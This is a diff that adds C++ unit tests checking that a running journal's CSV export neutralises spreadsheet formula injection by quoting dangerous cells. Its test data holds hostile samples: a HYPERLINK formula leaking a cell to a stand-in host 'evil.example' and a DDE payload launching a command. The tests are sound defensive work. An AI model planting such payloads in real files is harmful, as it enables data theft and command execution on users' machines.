@@ -76,6 +76,39 @@ TEST(ExportRunsCsv, GivesDistanceAndPaceInMilesWhenAsked) {
             "3,2025-02-27 06:45,Europe/Berlin,treadmill,5.000,2400,,8:00,,,,,,,5,,,");
 }
 
+TEST(CsvField, PrefixesAQuoteToEveryCellASpreadsheetWouldEvaluate) {
+  EXPECT_EQ(csv_field("=1+2"), "\"'=1+2\"");
+  EXPECT_EQ(csv_field("+1+2"), "\"'+1+2\"");
+  EXPECT_EQ(csv_field("-1+2"), "\"'-1+2\"");
+  EXPECT_EQ(csv_field("@SUM(A1)"), "\"'@SUM(A1)\"");
+  EXPECT_EQ(csv_field("\t=1"), "\"'\t=1\"");
+  EXPECT_EQ(csv_field("\r=1"), "\"'\r=1\"");
+  EXPECT_EQ(csv_field("=\"a\",b"), "\"'=\"\"a\"\",b\"");
+}
+
+TEST(CsvField, LeavesNumbersAndOrdinaryTextAsTheyAre) {
+  EXPECT_EQ(csv_field("-12.5"), "-12.5");
+  EXPECT_EQ(csv_field("3130.5"), "3130.5");
+  EXPECT_EQ(csv_field("Morning loop = fun"), "Morning loop = fun");
+  EXPECT_EQ(csv_field(""), "");
+  EXPECT_EQ(csv_field("-"), "\"'-\"");
+  EXPECT_EQ(csv_field("a,b"), "\"a,b\"");
+}
+
+TEST(ExportRunsCsv, WritesAFormulaInATitleOrNoteAsText) {
+  JournalData data = sample::rich_journal();
+  data.runs.at(0).title = R"x(=HYPERLINK("http://evil.example/?"&A1,"Click for your stats"))x";
+  data.runs.at(0).route_name = "@cmd|'/c calc'!A0";
+  data.runs.at(0).notes = "+1+1";
+  const std::string csv = export_runs_csv(data, UnitSystem::metric);
+  EXPECT_THAT(csv, HasSubstr(R"x(,"'=HYPERLINK(""http://evil.example/?""&A1,""Click for your )x"
+                             R"x(stats"")","'@cmd|'/c calc'!A0","'+1+1",)x"));
+  for (const auto& record : records_of(csv)) {
+    EXPECT_THAT(record, ::testing::Not(HasSubstr(",=")));
+    EXPECT_THAT(record, ::testing::Not(HasSubstr(",\"=")));
+  }
+}
+
 TEST(ExportRunsCsv, WritesOnlyTheHeaderWhenThereAreNoRuns) {
   EXPECT_EQ(records_of(export_runs_csv(JournalData{}, UnitSystem::metric)).size(), 1U);
 }
